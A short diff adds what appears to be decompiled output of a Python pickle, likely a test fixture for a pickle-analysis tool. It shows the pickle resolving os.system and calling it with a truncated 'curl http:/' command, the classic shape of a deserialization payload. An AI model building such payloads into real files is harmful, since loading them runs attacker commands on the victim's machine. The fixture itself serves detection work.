@@ -0,0 +1,7 @@
+## VM stack start, len 1
+## VM[0] TOP
+g_system_x1d = _find_class("os", "system", proto=4))
+str_x2 = "curl http:/"
+return g_system_x1d(str_x2)
+## POP stack start, len 1
+## POP[0] TOP